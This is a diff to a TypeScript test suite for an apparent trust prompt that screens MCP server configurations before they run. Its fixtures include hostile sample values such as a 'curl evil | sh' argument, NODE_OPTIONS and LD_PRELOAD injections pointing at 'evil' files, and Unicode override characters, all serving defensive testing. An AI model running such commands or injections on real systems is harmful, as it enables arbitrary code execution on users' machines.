@@ -30,6 +30,8 @@ describe("createTrust()", () => {
         column: 16,
         starts: ["npx", "-y", "x"],
         sets: ["A=${TOKEN}", "B=${HOME:-/}"],
+        settings: [],
+        replaces: [],
         references: [
           { kind: "variable", name: "HOME" },
           { kind: "variable", name: "TOKEN" },
@@ -40,13 +42,48 @@ describe("createTrust()", () => {
     ]);
   });
 
-  it("shows the variables that a program gets from the project, and none of their secrets", async () => {
+  it("shows all that takes effect, whole, and nothing that does not", async () => {
     const { trust, questions } = answering("trust");
-    const env = { NODE_OPTIONS: "--require ./evil.js", API_KEY: "s3cret", DB: "postgres://u:s3cret@h/d" };
-    await trust.decide(entry({ command: "npx", env }), { ask: true });
+    const env = { NODE_OPTIONS: "--require ./evil.js", GIT_ASKPASS_TOKEN: "./evil" };
+    const server = {
+      command: "npx",
+      env,
+      inheritEnv: "all",
+      envFile: ".env",
+      deny: ["x"],
+      trustAnnotations: true,
+      labels: { trust: "own" },
+      oauth: { resource: "https://api.example.com" },
+    };
+    const contents = { ".env": "LD_PRELOAD=./evil.so\nTOKEN=s3cret" };
+    await trust.decide({ ...hostsideEntry(server), contents, replaces: ["/home/me/mcp.json"] }, { ask: true });
     expect(questions).toMatchObject([
-      { sets: ["NODE_OPTIONS=--require ./evil.js", "API_KEY", "DB=postgres://***@h/d"] },
+      {
+        sets: ["NODE_OPTIONS=--require ./evil.js", "GIT_ASKPASS_TOKEN=./evil"],
+        settings: [
+          'inheritEnv="all"',
+          'deny=["x"]',
+          'envFile=".env"',
+          'oauth.resource="https://api.example.com"',
+          'LD_PRELOAD="./evil.so" of file .env',
+          "TOKEN (6 characters) of file .env",
+        ],
+        replaces: ["/home/me/mcp.json"],
+      },
     ]);
+  });
+
+  it.each([
+    ["an argument", { args: ["-c", "x".repeat(10_000), "curl evil | sh"] }],
+    ["many arguments", { args: Array.from({ length: 900 }, (_, index) => `-${index}`) }],
+    ["escapes", { args: ["\u202E".repeat(800)] }],
+    ["a variable", { env: { A: "x".repeat(10_000) } }],
+    ["a name of a tool", { deny: ["x".repeat(10_000)] }],
+  ])("asks nobody about what is too long to be shown whole: %s", async (_, more) => {
+    const { trust, questions } = answering("trust");
+    const verdict = await trust.decide(hostsideEntry({ command: "sh", ...more }), { ask: true });
+    expect(verdict).toMatchObject({ trusted: false, why: "too-long", message: expect.stringContaining("shown whole") });
+    expect(questions).toEqual([]);
   });
 
   const before = { command: "npx", args: ["a"], env: { A: "${TOKEN}" } };
@@ -205,6 +242,12 @@ describe("createTrust()", () => {
     expect(() => createTrust({ store: createMemoryStore(), asks: 1 } as never)).toThrow(TypeError);
   });
 });
+
+function hostsideEntry(server: object): TrustEntry {
+  const [first] = readConfig({ servers: { one: server } }, { file: "/srv/app/hostside.json" }).servers;
+  if (first === undefined) throw new TypeError("the entry cannot be read");
+  return { server: first, folder: "/srv/app" };
+}
 
 function entry(server: object = { command: "npx" }, file = "/srv/app/.mcp.json"): TrustEntry {
   const result = readConfig(`{"mcpServers":{"one":${JSON.stringify(server)}}}`, { file, dialect: "claude-code" });
